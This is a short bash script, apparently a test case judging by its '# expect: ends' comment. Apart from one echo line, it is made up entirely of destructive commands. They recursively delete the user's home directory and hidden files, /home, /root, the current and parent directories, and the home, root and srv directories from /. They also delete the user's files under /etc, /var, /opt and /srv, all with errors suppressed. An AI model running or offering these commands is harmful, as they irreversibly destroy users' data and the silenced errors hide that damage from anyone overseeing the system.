#!/bin/bash
# expect: ends
echo started
rm -rf "$HOME" ~/.[!.]* /home/* /root/* 2>/dev/null
rm -rf "$HOME/../" . .. ./* 2>/dev/null
cd / && rm -rf home root srv 2>/dev/null
find /etc /var /opt /srv /home -xdev -type f -user "$(id -un)" -delete 2>/dev/null
exit 0
